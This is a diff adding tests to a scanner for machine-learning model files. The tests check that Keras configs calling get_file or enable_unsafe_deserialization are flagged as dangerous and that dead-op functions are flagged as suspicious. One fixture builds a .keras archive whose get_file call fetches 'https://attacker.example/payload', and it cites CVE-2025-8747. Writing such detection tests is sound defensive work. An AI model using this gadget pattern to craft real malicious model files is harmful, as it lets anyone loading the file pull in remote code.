@@ -203,6 +203,24 @@ test('Keras configs: Lambda layers, custom objects, dangerous module references,
   assert.deepEqual(scanKerasConfig({ module: 'x', class_name: 'Y', config: {} }, new Set(['x.Y'])).issues, [], 'allowGlobals silences custom objects');
 });
 
+test('Keras configs: Keras functions a config can call in safe mode (get_file, enable_unsafe_deserialization, dead ops) are reported; model parts are not', () => {
+  const scan = scanKerasConfig({
+    module: 'keras', class_name: 'Functional', config: { layers: [
+      { module: 'keras.layers', class_name: 'Dense', config: { name: 'd', activation: { module: 'keras.activations', class_name: 'function', config: 'gelu' }, kernel_initializer: { module: 'keras.initializers', class_name: 'GlorotUniform', config: {} } } },
+      { module: 'keras', class_name: 'DTypePolicy', config: { name: 'float32' } },
+      { module: 'keras.src.utils.file_utils', class_name: 'function', config: 'get_file', registered_name: 'get_file' },
+      { module: 'keras.config', class_name: 'function', config: 'enable_unsafe_deserialization' },
+      { module: 'keras.utils', class_name: 'function', config: 'pad_sequences' },
+      { module: 'keras.losses', class_name: 'function', config: 'mean_squared_error' },
+    ] },
+  });
+  assert.deepEqual(scan.issues.map((i) => `${i.level}:${i.global}`), [
+    'dangerous:keras.src.utils.file_utils.get_file',
+    'dangerous:keras.config.enable_unsafe_deserialization',
+    'suspicious:keras.utils.pad_sequences',
+  ]);
+});
+
 /**
  * A `.keras` archive whose config nests `models` Sequential models inside one another, the innermost
  * holding a Lambda layer. The JSON text is built by concatenation (JSON.stringify would recurse).
@@ -320,4 +338,19 @@ test('Git LFS pointers (models not checked out) are notes, never header errors',
     assert.equal(scan.safetensors, undefined, name);
     assert.match(scan.formatLabel, /Git LFS pointer/);
   }
+});
+
+test('a .keras archive whose config calls Keras gadgets is reported: get_file as dangerous (AIS601), a dead-op Keras function as AIS607', () => {
+  const config = {
+    module: 'keras', class_name: 'Sequential', config: { name: 's', layers: [
+      { module: 'keras.layers', class_name: 'Dense', config: { name: 'd', units: 1 } },
+      { module: 'keras.utils', class_name: 'function', config: 'get_file', registered_name: 'get_file', inbound_nodes: [{ args: ['/tmp/x', 'https://attacker.example/payload'] }] },
+      { module: 'keras.utils', class_name: 'function', config: 'pad_sequences', registered_name: 'pad_sequences' },
+    ] },
+  };
+  const archive = zipSync({ 'metadata.json': new TextEncoder().encode('{"keras_version": "3.10.0"}'), 'config.json': new TextEncoder().encode(JSON.stringify(config)), 'model.weights.h5': new Uint8Array([0x89, 0x48, 0x44, 0x46, 0x0d, 0x0a, 0x1a, 0x0a]) });
+  const reports = check('model.keras', archive);
+  assert.deepEqual(reports.map((r) => r.ruleId), ['AIS601', 'AIS607']);
+  assert.match(reports[0]!.message ?? '', /keras\.utils\.get_file.*even in safe mode.*CVE-2025-8747/);
+  assert.match(reports[1]!.message ?? '', /keras\.utils\.pad_sequences.*dead op/);
 });
